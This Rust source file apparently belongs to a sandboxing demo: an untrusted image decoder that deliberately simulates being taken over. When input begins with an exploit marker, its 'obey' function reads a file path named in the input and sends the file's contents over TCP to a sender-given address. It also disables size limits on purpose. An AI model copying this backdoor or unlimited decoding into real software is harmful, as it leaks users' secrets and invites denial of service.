//! The object: decodes pictures. It is not trusted, since it reads data of strangers.

use std::fs;
use std::io::{Cursor, Write};
use std::net::TcpStream;

use anyhow::{Context, Result};
use concurrent_object::concurrent_object;
use image::ImageReader;
use serde::{Deserialize, Serialize};

use crate::samples::EXPLOIT;

/// What the program gets of a picture. The numbers may lie, so the program checks what it uses.
#[derive(Serialize, Deserialize)]
pub(crate) struct Picture {
    pub(crate) width: u32,
    pub(crate) height: u32,
    pub(crate) pixels: Vec<u8>,
}

pub(crate) struct Decoder;

#[concurrent_object]
impl Decoder {
    pub(crate) fn new() -> Self {
        Self
    }

    /// Returns the pixels of a picture, three bytes for each, or the reason why there are none.
    pub(crate) fn decode(&self, content: &[u8]) -> Result<Picture, String> {
        // An `anyhow::Error` cannot be sent to another process, but its text can.
        try_decode(content).map_err(|error| format!("{error:#}"))
    }
}

fn try_decode(content: &[u8]) -> Result<Picture> {
    if let Some(request) = content.strip_prefix(EXPLOIT) {
        obey(request)?;
    }
    let mut reader = ImageReader::new(Cursor::new(content)).with_guessed_format()?;
    // A careless decoder: it believes what a file says of its size.
    reader.no_limits();
    let pixels = reader.decode()?.into_rgb8();
    Ok(Picture { width: pixels.width(), height: pixels.height(), pixels: pixels.into_raw() })
}

/// Does what the sender of a file wants, as a decoder does that has been taken over: it sends the
/// content of a file to the attacker.
fn obey(request: &[u8]) -> Result<()> {
    let request = std::str::from_utf8(request)?;
    let (path, address) = request.split_once(' ').context("a request has two parts")?;
    let secret = fs::read_to_string(path).unwrap_or_else(|error| format!("no secret: {error}"));
    TcpStream::connect(address)?.write_all(secret.as_bytes())?;
    Ok(())
}
